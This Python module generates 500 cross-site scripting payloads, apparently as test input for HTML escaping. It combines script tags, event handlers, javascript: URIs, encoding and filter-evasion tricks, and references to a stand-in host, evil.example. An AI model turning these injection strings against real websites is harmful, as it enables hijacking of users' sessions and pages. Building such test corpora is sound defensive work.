"""500 strings that break out where text is put into HTML without care."""

from itertools import product

_ATTACKS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<body onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>",
    "<a href=javascript:pwned()>x</a>",
    "<form action=javascript:pwned()><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<object data=javascript:pwned()></object>",
    "<marquee onstart=pwned()>x</marquee>",
    "<mark onmouseover=pwned()>oil</mark>",
)
_PREFIXES = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "</mark></a></h2>",
    "]]>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover=pwned() x='",
    "oil ",
    "</script>",
    "<!--",
)
_WHOLE = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "//evil.example/%0apwned()",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=pwned()&gt;",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "%3Cscript%3Epwned()%3C/script%3E",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "{{pwned()}}",
    "{{ config }}{% raw %}",
    "${pwned()}",
    "＜script＞pwned()＜/script＞",
    "<scr<script>ipt>pwned()</script>",
    "<<script>pwned();//<</script>",
    "<img/src=`x`onerror=pwned()>",
)


def payloads() -> list[str]:
    """500 different ones."""
    plain = [prefix + attack for prefix, attack in product(_PREFIXES, _ATTACKS)]
    loud = [text.upper().replace("PWNED", "pwned") for text in plain[:240]]
    found = list(dict.fromkeys([*_WHOLE, *plain, *loud]))[:500]
    assert len(found) == 500
    return found
